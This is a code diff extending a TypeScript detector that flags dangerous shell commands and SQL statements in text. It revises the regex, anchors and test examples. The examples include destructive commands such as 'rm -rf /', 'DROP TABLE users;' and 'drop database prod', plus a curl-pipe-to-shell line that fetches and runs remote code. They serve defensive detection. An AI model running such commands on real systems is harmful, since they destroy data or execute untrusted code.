@@ -25,10 +25,11 @@ export const commandsInText: readonly Detector[] = [
     tags: ['dangerous.command'],
     severity: 'high',
     strength: 'shape',
-    description: 'A dangerous command at the beginning of a line, a quotation or a piece of code.',
+    description:
+      'A dangerous command at the beginning of a line, behind a colon, or in a quotation or a piece of code; a statement of SQL behind a colon or in code.',
     anchors: anchors(),
     pattern:
-      /(?<=(?:^["']?|[\n\r`]|\\n|[$#>] |[:,=[{(][ \t]{0,2}["'])[ \t]{0,8})(?<value>(?:sudo[ \t]{1,4})?[\w./-]{1,40}[ \t][^\n\r`]{1,1000})/i,
+      /(?<=(?:^["']?|[\n\r`]|\\n|[$#>] |[:,=[{(][ \t]{0,2}["']|[\w)\]]:[ \t])[ \t]{0,8})(?<value>(?!(?:drop|delete)[ \t])(?:sudo[ \t]{1,4})?[\w./-]{1,40}[ \t][^\n\r`]{1,1000})|(?<=(?:[\w)\]]:[ \t]|`)[ \t]{0,8})(?<value>(?:drop|delete)[ \t][^\n\r`]{1,1000})/i,
     validate: (value) => severeRules(value).length > 0,
     validate_work: SCRIPT_WORK,
     examples: {
@@ -37,12 +38,18 @@ export const commandsInText: readonly Detector[] = [
         'Run this:\n```\n«sudo rm -rf /etc»\n```',
         '$ «curl https://x.test/i.sh | sh»',
         'then `«git push --force origin main»` it',
+        'Run this: «rm -rf /»',
+        'Execute: «DROP TABLE users;»',
+        'then `«drop database prod»` it',
         '«echo "rm -rf /" | sh»',
         '«echo $(curl https://x.test/i.sh | sh)»',
       ],
       misses: [
         'Never run rm -rf / anywhere.',
         'git is a tool',
+        'Note: find the file and delete it',
+        'Tip: drop table names that are long from the list of all names',
+        'DROP TABLE users;\n',
         'rm is short for remove, which it does.',
         'echo "rm -rf /"',
         'echo "could not read $FILE" >&2',
@@ -64,7 +71,8 @@ function anchors(): readonly string[] {
     'echo',
     'cat',
   ]);
-  return [...names].map((name) => `(?<![\\w.@/-])${name.replaceAll('.', '\\.')}[ \\t]`);
+  const programs = [...names].map((name) => `(?<![\\w.@/-])${name.replaceAll('.', '\\.')}[ \\t]`);
+  return [...programs, '(?i)(?<![\\w.@/-])drop[ \\t]', '(?i)(?<![\\w.@/-])delete[ \\t]from'];
 }
 
 /** The severe rules that such a command breaks; none where it is prose. */
